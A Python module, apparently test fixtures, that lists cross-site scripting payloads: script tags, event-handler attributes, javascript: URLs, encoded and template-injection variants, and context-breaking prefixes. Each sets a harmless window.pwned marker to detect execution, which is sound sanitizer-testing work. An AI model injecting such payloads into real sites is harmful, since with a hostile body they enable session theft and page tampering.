"""Texts that would run in a page that takes them for markup: each sets ``window.pwned``."""

from __future__ import annotations

from itertools import product

_RUN = "window.pwned=1"

# What ends the place where a text might stand: an attribute, an element, a comment, a script.
_BEFORE = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>")

PLAIN = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt\t>{_RUN}</sCrIpT >",
    f'<script src="data:text/javascript,{_RUN}"></script>',
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror={_RUN}//",
    f"<IMG SRC=x ONERROR={_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f'<svg onload="{_RUN}">',
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f'<iframe srcdoc="<script>parent.{_RUN.removeprefix("window.")}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_RUN.removeprefix("window.")}"></iframe>',
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<button autofocus onfocus={_RUN}>x</button>",
    f"<style onload={_RUN}></style>",
    f"<link rel=stylesheet href=data:text/css, onload={_RUN}>",
    f"<object data=x onerror={_RUN}></object>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
)
"""Each runs in the body of a page."""

# Not markup, until somebody decodes or fills in once too often.
_OTHER = (
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"%3Cimg%20src=x%20onerror={_RUN}%3E",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"javascript:{_RUN}",
    f"[x](javascript:{_RUN})",
    f"![x](x){{onerror={_RUN}}}",
    f"＜img src=x onerror={_RUN}＞",
    f"`-{_RUN}-`",
    f"'-{_RUN}-'",
    f'"-{_RUN}-"',
    f"</sCript\u2028<script>{_RUN}</script>",
)

TEXTS = (*(before + markup for before, markup in product(_BEFORE, PLAIN)), *_OTHER)
"""The same, in every place where a text might stand, and the rest."""
